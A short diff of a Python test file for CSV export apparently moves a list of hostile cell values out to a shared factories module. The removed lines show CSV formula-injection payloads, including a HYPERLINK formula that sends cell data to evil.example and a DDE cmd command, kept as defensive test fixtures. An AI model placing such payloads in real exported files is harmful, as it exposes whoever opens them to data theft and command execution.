@@ -10,17 +10,7 @@ import numpy as np
 import pytest
 
 from tasks.csv_export import FORMULA_PREFIXES, csv_cell, csv_lines, csv_write
-
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "=cmd|' /C calc'!A0",
-    "-0.5",
-]
+from tests.factories import HOSTILE_CSV_CELLS as HOSTILE
 
 
 @pytest.mark.parametrize("text", HOSTILE)
